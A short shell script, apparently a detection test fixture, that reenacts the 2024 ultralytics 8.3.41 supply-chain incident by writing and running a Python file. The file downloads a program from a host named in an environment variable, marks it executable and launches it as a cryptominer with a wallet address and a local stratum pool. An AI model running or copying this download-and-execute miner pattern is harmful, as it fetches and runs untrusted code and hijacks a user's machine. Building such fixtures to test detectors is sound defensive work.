# incident: ultralytics 8.3.41 (2024): a package downloads and runs a miner
# finding: miner-started, downloaded-executed
# needs: python3
cat > downloads.py <<'PY'
import os, subprocess, urllib.request
data = urllib.request.urlopen(f"http://{os.environ['DROP']}/program").read()
path = os.path.join(os.environ["TMPDIR"], "ultralytics_runner")
open(path, "wb").write(data); os.chmod(path, 0o770)
subprocess.run([path, "-u", "4BHRQHFexjzfVjinAbrAwJdtogpFV3uCXhxYtYnsQN66CRtypsRyVEZhGc8iWyPViEewB8LtdAEL7CdjE4szMpKzPGjoZnw", "-o", "stratum+tcp://127.0.0.1:1"])
PY
python3 downloads.py
